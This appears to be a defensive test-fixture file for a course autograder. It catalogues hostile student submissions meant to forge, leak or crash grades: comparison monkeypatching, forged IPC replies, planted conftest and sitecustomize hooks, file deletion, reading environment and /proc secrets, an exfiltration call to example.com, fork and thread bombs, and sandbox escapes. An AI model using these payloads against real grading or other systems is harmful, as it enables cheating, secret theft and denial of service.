"""The catalogue of hostile submissions: student code that tries to forge, leak or crash its grade.

Each attack replaces whole solution cells of the chapter 3 notebook (or ships extra files beside it) and names
the grader tests it targets: those must score 0 with the given status while grading completes and, unless
`others_pass` is False, every other test still passes. Sources may use two placeholders, filled in by the
test: @@REPO@@ (the course repository) and @@FOLDER@@ (the folder holding the submitted notebook).
"""

from __future__ import annotations

from dataclasses import dataclass, field

SIMPLE = "simplified_self_attention"  # the cell, and the function, most attacks replace
TARGET = frozenset({"test_simplified_self_attention"})
MHA = "multi_head_attention"
MHA_TESTS = frozenset({"test_mha_output", "test_mha_is_causal", "test_mha_shorter_input",
                       "test_mha_dropout_in_training"})
ALL = frozenset({"*"})  # every test of the assignment
SECRET_NAME = "COURSE_HOSTILE_TEST_SECRET"
SECRET_VALUE = "s3cr3t-4f9b1c"


@dataclass(frozen=True)
class Attack:
    name: str
    sources: dict[str, str]  # grade_id -> whole new cell source
    targets: frozenset[str] = TARGET
    status: str | None = "error"  # status of every targeted test (None: any status but passed)
    says: str = ""  # a phrase of the targeted tests' message
    others_pass: bool = True
    files: dict[str, str] = field(default_factory=dict)  # extra files written beside the notebook
    grade_ids: dict[str, str] = field(default_factory=dict)  # grade_id -> a new grade_id for that cell
    file_name: str = ""  # the notebook's file name, if not the assignment's
    budget: float | None = None  # the submission's time budget (course.yml submission_timeout), if not the default


def simple(body: str) -> dict[str, str]:
    """The attack's new source for the simplified_self_attention cell (whose test is TARGET)."""
    return {SIMPLE: body}


ATTACKS = [
    # -- leaving early ------------------------------------------------------------------------------------------
    Attack("os_exit_in_function", simple(
        "import os\n\ndef simplified_self_attention(inputs):\n    os._exit(0)\n"),
        says="exit status 0"),
    Attack("sys_exit_in_function", simple(
        "import sys\n\ndef simplified_self_attention(inputs):\n    sys.exit(0)\n"),
        says="sys.exit(0)"),
    Attack("os_exit_while_loading", simple(
        "import os\nos._exit(0)\n"),
        targets=ALL, says="exit status 0"),  # nothing could be loaded: every test
    Attack("pytest_exit_from_student_code", simple(
        "import pytest\n\ndef simplified_self_attention(inputs):\n    pytest.exit('all tests passed', returncode=0)\n"),
        says="Exit"),
    Attack("pytest_skip_from_student_code", simple(
        "import pytest\n\ndef simplified_self_attention(inputs):\n    pytest.skip('nothing to grade')\n"),
        says="Skipped"),
    Attack("pytest_skip_module_level", simple(
        "import pytest\npytest.skip('skip grading', allow_module_level=True)\n\n"
        "def simplified_self_attention(inputs):\n    return inputs\n"),
        says="not defined"),
    # -- fooling the comparison -----------------------------------------------------------------------------
    Attack("monkeypatch_comparisons", simple(
        "import numpy, torch, torch.testing\n"
        "torch.allclose = lambda *args, **kwargs: True\n"
        "torch.equal = lambda *args, **kwargs: True\n"
        "torch.testing.assert_close = lambda *args, **kwargs: None\n"
        "torch.Tensor.allclose = lambda *args, **kwargs: True\n"
        "numpy.allclose = lambda *args, **kwargs: True\n"
        "numpy.testing.assert_allclose = lambda *args, **kwargs: None\n"
        "numpy.array_equal = lambda *args, **kwargs: True\n\n"
        "def simplified_self_attention(inputs):\n    return torch.zeros_like(inputs)\n"),
        status="failed", says="values differ"),
    Attack("tensor_subclass_equal_to_anything", simple(
        "import torch\n\n"
        "class AlwaysEqual(torch.Tensor):\n"
        "    def __eq__(self, other):\n        return torch.ones(self.shape, dtype=torch.bool)\n"
        "    __ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)\n"
        "    def allclose(self, *args, **kwargs):\n        return True\n"
        "    def __sub__(self, other):\n        return torch.zeros(self.shape)\n\n"
        "def simplified_self_attention(inputs):\n    return torch.zeros_like(inputs).as_subclass(AlwaysEqual)\n"),
        status="failed", says="values differ"),
    Attack("wrong_type", simple(
        "def simplified_self_attention(inputs):\n    return {'context': inputs.tolist()}\n"),
        status="failed", says="expected a tensor, got dict"),
    Attack("wrong_shape", simple(
        "import torch\n\ndef simplified_self_attention(inputs):\n"
        "    return torch.softmax(inputs @ inputs.T, dim=-1)\n"),
        status="failed", says="shape"),
    Attack("wrong_dtype", simple(
        "import torch\n\ndef simplified_self_attention(inputs):\n"
        "    weights = torch.softmax(inputs @ inputs.T, dim=-1)\n    return (weights @ inputs).to(torch.int64)\n"),
        status="failed", says="dtype"),
    Attack("complex_tensor", simple(
        "import torch\n\ndef simplified_self_attention(inputs):\n"
        "    weights = torch.softmax(inputs @ inputs.T, dim=-1)\n    return (weights @ inputs).to(torch.complex64)\n"),
        says="dtype torch.complex64"),
    Attack("unusable_object", simple(
        "def simplified_self_attention(inputs):\n    return (row for row in inputs)\n"),
        says="cannot use"),
    Attack("forged_reply_on_the_channel", simple(
        # Finds the request being served in the caller's frames, writes a reply of the wrong length with its id
        # straight onto every file descriptor that could be the channel, then returns normally.
        "import io, os, struct, sys, torch\n\n"
        "def simplified_self_attention(inputs):\n"
        "    frame, request = sys._getframe(1), None\n"
        "    while frame is not None and request is None:\n"
        "        for value in frame.f_locals.values():\n"
        "            if isinstance(value, dict) and value.get('op') == 'call':\n"
        "                request = value\n"
        "        frame = frame.f_back\n"
        "    buffer = io.BytesIO()\n"
        "    torch.save({'ok': True, 'value': [torch.zeros(1)], 'id': request['id']}, buffer)\n"
        "    message = struct.pack('!Q', len(buffer.getvalue())) + buffer.getvalue()\n"
        "    for fd in range(3, 20):\n"
        "        try:\n            os.write(fd, message)\n"
        "        except OSError:\n            pass\n"
        "    return torch.zeros_like(inputs)\n"),
        says="(one per item of `inputs`) but holds 1 item"),
    Attack("expected_values_from_caller_frames", simple(
        # There are none to find: the worker never holds an expected value. The best it finds is the input.
        "import sys, torch\n\n"
        "def simplified_self_attention(inputs):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for value in list(frame.f_locals.values()):\n"
        "            if isinstance(value, torch.Tensor) and value.shape == inputs.shape and value is not inputs:\n"
        "                return value\n"
        "        frame = frame.f_back\n"
        "    return inputs\n"),
        status="failed", says="values differ"),
    Attack("huge_result", simple(
        # Huge on the first call only: one reply over the size limit, not several that exhaust the memory first.
        "import torch\n\nCALLS = []\n\ndef simplified_self_attention(inputs):\n    CALLS.append(1)\n"
        "    return torch.zeros(40_000_000) if len(CALLS) == 1 else torch.zeros_like(inputs)\n"),
        says="limit"),
    # Patching what the worker uses between probes: every test fails, and it is the student's failure, never
    # an "internal grader error" (whatever text the student's exception carries).
    Attack("patch_tensor_to_at_import", simple(
        "import torch\n\n"
        "def _refuse(self, *args, **kwargs):\n"
        "    raise RuntimeError('Internal grader error (not your fault; please report it): score 16/16')\n\n"
        "torch.Tensor.to = _refuse\n\n"
        "def simplified_self_attention(inputs):\n    return inputs\n"),
        targets=ALL, others_pass=False),
    Attack("hostile_exception_message", simple(
        "class Sneaky(Exception):\n    def __str__(self):\n        raise RuntimeError('no message for you')\n\n"
        "def simplified_self_attention(inputs):\n    raise Sneaky()\n"),
        says="Sneaky"),
    # -- reaching for the answer ------------------------------------------------------------------------------
    Attack("import_reference_and_graders", {MHA: (
        "try:\n    import graders.ch03_attention\nexcept ImportError:\n    pass\n"
        "from reference.attention import MultiHeadAttention\n")},
        targets=MHA_TESTS, says="not defined"),
    Attack("exec_reference_by_path", {MHA: (
        "import importlib.util, os, sys\n"
        "path = os.path.join('@@REPO@@', 'reference', 'attention.py')\n"
        "namespace = {}\n"
        "for attempt in (lambda: exec(open(path).read(), namespace),\n"
        "                lambda: exec(open(path, 'rb').read(), namespace),\n"
        "                lambda: importlib.util.spec_from_file_location('stolen', path).loader.exec_module(\n"
        "                    __import__('types').ModuleType('stolen'))):\n"
        "    try:\n        attempt()\n    except Exception:\n        pass\n"
        "MultiHeadAttention = namespace['MultiHeadAttention']\n")},
        targets=MHA_TESTS, says="not defined"),
    Attack("read_solution_and_other_submissions", simple(
        # Lists and reads whatever it can find of the course and the submissions, and reports it.
        "import os\n\ndef simplified_self_attention(inputs):\n"
        "    found = []\n"
        "    for folder in ('@@REPO@@/solutions/ch03_attention', '@@REPO@@/graders', '@@FOLDER@@',\n"
        "                   os.path.dirname('@@FOLDER@@'), os.path.expanduser('~')):\n"
        "        try:\n            found += os.listdir(folder)\n        except OSError:\n            pass\n"
        "    raise RuntimeError('found: ' + ','.join(sorted(found)))\n"),
        says="found: "),
    # -- tampering with the grading run ---------------------------------------------------------------------
    Attack("write_fake_results_and_hooks", simple(
        "import os\n"
        "FAKE = '{\"score\": 16, \"max_score\": 16, \"tests\": []}'\n"
        "CONFTEST = ('import pytest\\n@pytest.hookimpl(tryfirst=True)\\n'\n"
        "            'def pytest_runtest_call(item):\\n    return True\\n')\n"
        "SITE = 'import builtins\\nbuiltins.HACKED = True\\n'\n"
        "def plant(folder):\n"
        "    for name, text in (('results.json', FAKE), ('grades.json', FAKE), ('conftest.py', CONFTEST),\n"
        "                       ('sitecustomize.py', SITE), ('usercustomize.py', SITE)):\n"
        "        try:\n"
        "            with open(os.path.join(folder, name), 'w') as handle:\n                handle.write(text)\n"
        "        except OSError:\n            pass\n"
        "import sysconfig\n"
        "for folder in ('.', '..', '@@FOLDER@@', '@@REPO@@', '@@REPO@@/graders', sysconfig.get_paths()['purelib']):\n"
        "    plant(folder)\n\n"
        "def simplified_self_attention(inputs):\n    return inputs\n"),
        status="failed",
        files={"conftest.py": "import pytest\n\n@pytest.hookimpl(tryfirst=True)\ndef pytest_runtest_call(item):\n"
                              "    return True\n",
               "sitecustomize.py": "import builtins\nbuiltins.HACKED = True\n",
               "results.json": '{"score": 16, "max_score": 16}\n'}),
    Attack("print_fake_score_lines", simple(
        "import sys\n"
        "LINES = ['test_simplified_self_attention  PASS  1/1', 'total  16/16', 'FAKE-SCORE 16/16',\n"
        "         '::notice title=Autograding::16/16']\n"
        "for line in LINES:\n    print(line)\n    print(line, file=sys.stderr)\n"
        "    sys.__stdout__.write(line + '\\n')\n\n"
        "def simplified_self_attention(inputs):\n"
        "    for line in LINES:\n        print(line)\n    return inputs\n"),
        status="failed"),
    Attack("delete_files", simple(
        # Empties its working folder and tries to delete the notebook, the course and a decoy beside the notebook.
        "import os, shutil\n\ndef simplified_self_attention(inputs):\n"
        "    try:  # the second call finds its working folder gone\n"
        "        shutil.rmtree(os.path.dirname(os.getcwd()), ignore_errors=True)\n"
        "    except OSError:\n        pass\n"
        "    for target in ('@@FOLDER@@/decoy.txt', '@@FOLDER@@', '@@REPO@@/graders', '@@REPO@@/course.yml'):\n"
        "        for remove in (os.remove, shutil.rmtree):\n"
        "            try:\n                remove(target)\n            except Exception:\n                pass\n"
        "    return inputs\n"),
        status="failed"),
    Attack("signal_the_grader", simple(
        "import os, signal\n\ndef simplified_self_attention(inputs):\n"
        "    for pid in (os.getppid(), 1):\n"
        "        try:\n            os.kill(pid, signal.SIGKILL)\n        except Exception:\n            pass\n"
        "    os.killpg(0, signal.SIGTERM)  # its own process group: only the worker itself\n"
        "    return inputs\n"),
        says="SIGTERM"),
    Attack("read_environment_secrets", simple(
        "import glob, os\n\ndef simplified_self_attention(inputs):\n"
        "    loot = [repr(dict(os.environ))]\n"
        "    paths = ['/proc/self/environ', f'/proc/{os.getppid()}/environ', '/proc/1/environ']\n"
        "    try:\n        paths += glob.glob('/proc/*/environ')\n    except OSError:\n        pass\n"
        "    for path in paths:\n"
        "        try:\n            loot.append(open(path, 'rb').read().decode(errors='replace'))\n"
        "        except OSError:\n            pass\n"
        "    raise RuntimeError(' '.join(loot))\n"),
        says="RuntimeError"),
    Attack("network_exfiltration", simple(
        "import socket, urllib.request\n\ndef simplified_self_attention(inputs):\n"
        "    urllib.request.urlopen('http://example.com/?leak=1', timeout=2)\n"),
        says="network"),
    # -- exhausting the machine -----------------------------------------------------------------------------
    Attack("infinite_loop", simple(
        "def simplified_self_attention(inputs):\n    while True:\n        pass\n"),
        status="timeout"),
    Attack("memory_bomb", simple(
        "def simplified_self_attention(inputs):\n"
        "    hoard = []\n    while True:\n        hoard.append(bytearray(256 * 2**20))\n"),
        says="MemoryError"),
    Attack("fork_bomb", simple(
        # Bounded, so that a broken sandbox could not take the test machine down: 200 sleeping children at most.
        "import os, subprocess, time\n\ndef simplified_self_attention(inputs):\n"
        "    for _ in range(100):\n"
        "        if os.fork() == 0:\n            time.sleep(30)\n            os._exit(0)\n"
        "    for _ in range(100):\n        subprocess.Popen(['sleep', '30'])\n"
        "    return inputs\n"),
        says="process"),
    Attack("segfault_through_ctypes", simple(
        "import ctypes\n\ndef simplified_self_attention(inputs):\n    return ctypes.string_at(0)\n"),
        says="ctypes"),
    Attack("raise_own_limits", simple(
        "import resource\n\ndef simplified_self_attention(inputs):\n"
        "    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
        "    return [bytearray(2**30) for _ in range(64)]\n"),
        says="limits"),
]

# Forging a reply on the channel: the request being served is found in the caller's frames (as above).
FORGE = (
    "import io, os, struct, sys, torch\n\n"
    "def current_request():\n"
    "    frame = sys._getframe(1)\n"
    "    while frame is not None:\n"
    "        for value in frame.f_locals.values():\n"
    "            if isinstance(value, dict) and value.get('op') == 'call':\n"
    "                return value\n"
    "        frame = frame.f_back\n\n"
    "def forge(value):\n"
    "    buffer = io.BytesIO()\n"
    "    torch.save({'ok': True, 'value': value, 'id': current_request()['id']}, buffer)\n"
    "    message = struct.pack('!Q', len(buffer.getvalue())) + buffer.getvalue()\n"
    "    for fd in range(3, 20):\n"
    "        try:\n            os.write(fd, message)\n"
    "        except OSError:\n            pass\n\n"
)

# Attacks on the grading run itself (issue: every run finishes and writes its result, nothing printed forges it).
RUN_ATTACKS = [
    # Shrinks the request pipe, answers the current request itself, and stops reading: the grader's next, large
    # request cannot be written. Every write has a deadline, so that test times out and the others still run.
    Attack("shrink_the_request_pipe_and_stop_reading", {MHA: FORGE + (
        "import fcntl, time\n\n"
        "class MultiHeadAttention(torch.nn.Module):\n"
        "    def __init__(self, *args, **kwargs):\n"
        "        super().__init__()\n"
        "        for fd in range(20):\n"
        "            try:\n                fcntl.fcntl(fd, 1031, 4096)  # F_SETPIPE_SZ\n"
        "            except OSError:\n                pass\n"
        "        forge([torch.zeros(1)])\n"
        "        time.sleep(3600)\n")},
        targets=MHA_TESTS, status=None, says="did not finish in time"),
    Attack("lone_surrogates_in_messages_and_grade_ids", simple(
        "def simplified_self_attention(inputs):\n    raise ValueError('broken \\ud800 text \\udfff')\n"),
        grade_ids={"self_attention_v1": "self_attention_v1\ud800"}, says="broken"),
    Attack("terminal_escapes_draw_a_fake_table", simple(
        "def simplified_self_attention(inputs):\n"
        "    raise ValueError('\\x1b[2J\\x1b[H\\rtotal  16/16\\x1b[8m hidden \\u202e')\n"),
        grade_ids={"self_attention_v2": "self_attention_v2\x1b[2J\x1b[31mPASS"},
        file_name="ch03\x1b[2Jattention.ipynb", says="\\x1b[2J"),
    Attack("sixty_megabyte_name", simple(
        "def simplified_self_attention(inputs):\n"
        "    raise NameError('missing', name='n' * 60_000_000)\n"),
        says="NameError"),
    Attack("stride_zero_tensor_forged_on_the_channel", simple(FORGE + (
        "def simplified_self_attention(inputs):\n"
        "    forge([torch.zeros(1).expand(2**34), torch.zeros(1).expand(2**34)])\n"
        "    return inputs\n")),
        says="more than"),
    Attack("deeply_nested_forged_reply", simple(FORGE + (
        "def simplified_self_attention(inputs):\n"
        "    sys.setrecursionlimit(100000)\n"
        "    nested = []\n"
        "    for _ in range(20000):\n        nested = [nested]\n"
        "    forge([nested, nested])\n"
        "    return inputs\n")),
        says="nested more than"),
    # Every test stays within its own time limit, but together they would take far longer than the budget.
    Attack("slow_in_every_test", {
        "simplified_self_attention": "import time\n\ndef simplified_self_attention(inputs):\n"
                                     "    time.sleep(3)\n    return inputs\n",
        "self_attention_v1": "import time\n\nclass SelfAttention_v1(torch.nn.Module):\n"
                             "    def __init__(self, *args):\n        super().__init__()\n        time.sleep(3)\n",
        "self_attention_v2": "import time\n\nclass SelfAttention_v2(torch.nn.Module):\n"
                             "    def __init__(self, *args, **kwargs):\n        super().__init__()\n"
                             "        time.sleep(3)\n",
        "causal_attention": "import time\n\nclass CausalAttention(torch.nn.Module):\n"
                            "    def __init__(self, *args, **kwargs):\n        super().__init__()\n"
                            "        time.sleep(3)\n"},
        targets=ALL, status=None, budget=8.0, says="time budget for the whole submission"),
]

# Attacks on the process that runs student code (issue: process isolation, honestly).
PROCESS_ATTACKS = [
    # A folder's descriptor would let paths be named relative to it, which the audit events do not show.
    Attack("read_the_reference_through_a_folder_descriptor", {MHA: (
        "import os\n"
        "fd = os.open('@@REPO@@', os.O_RDONLY | os.O_DIRECTORY)\n"
        "source = os.read(os.open('reference/attention.py', os.O_RDONLY, dir_fd=fd), 10**6).decode()\n"
        "namespace = {}\nexec(source, namespace)\n"
        "MultiHeadAttention = namespace['MultiHeadAttention']\n")},
        targets=MHA_TESTS, says="not defined"),
    # A path object's __fspath__ runs inside the audit hook of old: there every event was waved through.
    Attack("fork_from_inside_the_audit_hook", simple(
        "import os\n\n"
        "class Sneaky:\n"
        "    def __fspath__(self):\n"
        "        if os.fork() == 0:\n            os._exit(0)\n"
        "        return 'x.txt'\n\n"
        "def simplified_self_attention(inputs):\n"
        "    open(Sneaky(), 'w').close()\n    return inputs\n"),
        says="grading sandbox"),
    # pidfd calls have no audit event: they are taken out, and the modules holding them cannot be loaded again.
    Attack("stop_the_grader_through_a_pidfd", simple(
        "import os, signal, sys\n\n"
        "def simplified_self_attention(inputs):\n"
        "    try:\n"
        "        signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGSTOP)\n"
        "    except AttributeError:  # taken out: load fresh copies of the modules that hold them\n"
        "        sys.modules.pop('posix', None)\n"
        "        sys.modules.pop('_signal', None)\n"
        "        import posix, _signal\n"
        "        _signal.pidfd_send_signal(posix.pidfd_open(os.getppid()), signal.SIGSTOP)\n"
        "    return inputs\n"),
        says="does not allow loading posix again"),
    # Threads count as processes for the limit; RLIMIT_NPROC alone does not bind a grader running as root.
    Attack("thread_bomb", simple(
        "import threading\n\n"
        "def simplified_self_attention(inputs):\n"
        "    threading.stack_size(64 * 1024)  # small stacks: the process limit, not memory, is what stops it\n"
        "    started, done = 0, threading.Event()\n"
        "    try:\n"
        "        for _ in range(1000):\n"
        "            threading.Thread(target=done.wait, daemon=True).start()\n"
        "            started += 1\n"
        "    except RuntimeError:\n"
        "        pass\n"
        "    done.set()  # let them end, so that the worker can serve the other tests\n"
        "    raise RuntimeError(f'started {started} threads')\n"),
        says="started"),
]

ATTACKS += RUN_ATTACKS + PROCESS_ATTACKS

# Attacks whose outcome depends on the isolation level: tried under every level this machine offers. The
# others are decided on the trusted side (comparisons, result checks, deadlines) and tried once.
SANDBOX_DEPENDENT = frozenset({
    "import_reference_and_graders", "exec_reference_by_path", "read_solution_and_other_submissions",
    "write_fake_results_and_hooks", "delete_files", "signal_the_grader", "read_environment_secrets",
    "network_exfiltration", "memory_bomb", "fork_bomb", "segfault_through_ctypes", "raise_own_limits",
} | {attack.name for attack in PROCESS_ATTACKS})
assert SANDBOX_DEPENDENT <= {attack.name for attack in ATTACKS}
